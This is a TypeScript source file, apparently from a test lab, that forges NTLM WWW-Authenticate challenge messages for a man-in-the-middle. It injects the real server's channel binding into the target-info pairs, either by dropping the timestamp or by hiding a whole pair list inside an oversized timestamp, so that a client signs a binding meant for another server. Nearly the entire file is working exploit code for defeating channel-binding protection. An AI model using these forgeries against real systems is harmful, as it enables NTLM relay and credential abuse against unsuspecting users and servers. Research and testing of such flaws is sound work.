/**
 * What a man in the middle writes into a challenge of NTLM to have the real server's channel binding signed by a client that is bound to
 * him: the binding as a pair of its own, or a whole list of pairs inside of the timestamp, which a server reads as the list itself,
 * because it takes a timestamp for 8 bytes long.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { file } from './lab.js';

const [TIMESTAMP, TARGET_NAME, BINDINGS] = [7, 9, 10];
const INFO_AT = 40;

type Pair = readonly [id: number, value: Buffer];
type Forgery = (pairs: readonly Pair[], binding: Buffer) => readonly Pair[];

/** The real server's binding, beside its own pairs; without the timestamp, so that no integrity code tells of it. */
export const besideThePairs: Forgery = (pairs, binding) => [
  ...pairs.filter(([id]) => id !== TIMESTAMP),
  [BINDINGS, binding],
];

/** After 8 bytes of time stand what the blob of a response has there: 8 of a client challenge, 4 of zeros, and the pairs. */
export const insideTheTimestamp: Forgery = (pairs, binding) => {
  const time = pairs.find(([id]) => id === TIMESTAMP)?.[1] ?? Buffer.alloc(8);
  const others = pairs.filter(([id]) => id !== TIMESTAMP);
  const target = Buffer.from('HTTP/localhost', 'utf16le');
  const list = emit([...others, [TIMESTAMP, time], [TARGET_NAME, target], [BINDINGS, binding]]);
  return [
    ...others,
    [TIMESTAMP, Buffer.concat([time, Buffer.from('attacker'), Buffer.alloc(4), list, Buffer.alloc(4)])],
  ];
};

/** Alters the WWW-Authenticate value of a server whose certificate has that name. */
export function forgeFor(certificate: string, forgery: Forgery): (challenge: string) => string {
  const data = readFileSync(file(`tls/${certificate}.binding`));
  const head = Buffer.alloc(20);
  head.writeUInt32LE(data.length, 16);
  const binding = createHash('md5').update(head).update(data).digest();
  return (challenge) => {
    const [scheme, token = ''] = challenge.split(' ');
    const message = Buffer.from(token, 'base64');
    if (message.toString('latin1', 0, 7) !== 'NTLMSSP') return challenge;
    const at = message.readUInt32LE(INFO_AT + 4);
    const info = emit(forgery(read(message.subarray(at, at + message.readUInt16LE(INFO_AT))), binding));
    const forged = Buffer.concat([message.subarray(0, at), info]);
    forged.writeUInt16LE(info.length, INFO_AT);
    forged.writeUInt16LE(info.length, INFO_AT + 2);
    return `${scheme} ${forged.toString('base64')}`;
  };
}

function read(bytes: Buffer): Pair[] {
  const pairs: Pair[] = [];
  for (let at = 0; bytes.readUInt16LE(at) !== 0; at += 4 + bytes.readUInt16LE(at + 2))
    pairs.push([bytes.readUInt16LE(at), bytes.subarray(at + 4, at + 4 + bytes.readUInt16LE(at + 2))]);
  return pairs;
}

function emit(pairs: readonly Pair[]): Buffer {
  const written = pairs.map(([id, value]) => {
    const head = Buffer.alloc(4);
    head.writeUInt16LE(id, 0);
    head.writeUInt16LE(value.length, 2);
    return Buffer.concat([head, value]);
  });
  return Buffer.concat([...written, Buffer.alloc(4)]);
}
